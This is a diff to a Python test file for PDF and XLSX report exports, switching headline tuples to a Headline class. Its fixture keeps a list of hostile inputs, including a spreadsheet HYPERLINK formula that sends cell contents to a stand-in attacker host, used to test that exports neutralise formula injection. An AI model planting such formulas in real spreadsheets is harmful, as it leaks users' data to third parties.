@@ -11,7 +11,7 @@ import pytest
 from openpyxl import load_workbook
 
 from api.reports import pdf, xlsx
-from api.reports.content import Column, ReportContent, Section, Table
+from api.reports.content import Column, Headline, ReportContent, Section, Table
 
 HOSTILE = [
     '=HYPERLINK("http://evil.example/?leak="&A1,"open")',
@@ -30,7 +30,7 @@ def content() -> ReportContent:
         (Column("comment"), Column("kg", "float")),
         [[text, -1.5] for text in [*HOSTILE, MARKUP]],
     )
-    section = Section("Section <i>1</i>", headline=[("plant", MARKUP)], tables=[table])
+    section = Section("Section <i>1</i>", headline=[Headline("plant", MARKUP)], tables=[table])
     return ReportContent("en", "Report " + MARKUP, "sub", "", [section], None)  # type: ignore[arg-type]
 
 
